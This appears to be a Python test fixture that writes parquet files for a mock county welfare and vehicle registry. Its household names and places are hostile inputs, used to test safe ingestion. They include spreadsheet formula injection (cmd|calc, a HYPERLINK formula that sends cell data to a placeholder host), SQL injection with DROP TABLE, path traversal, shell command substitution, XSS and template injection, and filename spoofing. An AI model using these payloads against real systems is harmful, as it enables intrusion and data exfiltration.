"""A county of a few households whose names and places are attacks, in the files of two departments."""

from __future__ import annotations

from pathlib import Path

import polars as pl

from schemas.identity import check_digit
from tests.hostile.workbooks import HEADER

LONG = "长" * 200
PLACES: list[tuple[str, str, str]] = [  # township, village, head of the household
    ("../../../逃出", "CON", "=cmd|'/c calc'!A1"),
    ("..", "a/b\\c:d*?", '=HYPERLINK("http://example.invalid/?"&A1,"点击")'),
    ("/etc/cron.d", "NUL.txt", "@SUM(1+9)*cmd|' /C calc'!A0"),
    (
        "镇'; DROP TABLE mart.households; --",
        "x') UNION SELECT resident_id FROM core.persons --",
        "-2+3+cmd|' /C calc'!A0",
    ),
    ("城关镇\u202egnp.exe", "村\x00\x07\x1b[2J\u2028\u200b", "+1\t张\r\n三"),
    ("<script>alert(1)</script>", "{{ 7*7 }}{% for x in ().__class__ %}", "<img src=x onerror=alert(1)>"),
    (LONG, LONG, LONG),
    ("%s%n${HOME}$(touch x)`touch y`", "~root", "|touch z"),
]


def resident_id(number: int) -> str:
    first = f"990001{1970 + number % 30}0101{number:03}"
    return first + check_digit(first)


def write(inbox: Path) -> None:
    """The files: households as parquet, which can carry any character, members and vehicles likewise."""
    numbers = range(1, len(PLACES) + 1)
    households = pl.DataFrame({
        "户编号": [f"H{n}" for n in numbers], "户主姓名": [name for *_, name in PLACES], "户主身份证号": [resident_id(n) for n in numbers],
        "救助类型": "农村低保", "家庭人口": 1, "保障人口": 1, "户月保障金额": 300, "家庭住址": [f"{a}{b}" for a, b, _ in PLACES],
        "街道（乡镇）": [township for township, *_ in PLACES], "社区（村）": [village for _, village, _ in PLACES],
    })  # fmt: skip
    members = households.select(
        "户编号", "户主身份证号", 姓名="户主姓名", 身份证号="户主身份证号", 与户主关系=pl.lit("户主本人")
    )
    rows = [
        (name, resident_id(n), "小型汽车", f"=澜A{n:05}", "2020-03-01", "正常")
        for n, (*_, name) in zip(numbers, PLACES, strict=True)
    ]
    vehicles = pl.DataFrame(
        [*rows, ("=1+1", "=2+2", "=cmd|'/c calc'!A1", "=3", "=4", "=5")], schema=HEADER, orient="row"
    )
    for name, frame in {"民政_救助家庭": households, "民政_救助人员": members, "公安_机动车": vehicles}.items():
        frame.write_parquet(inbox / f"{name}_20260320.parquet")
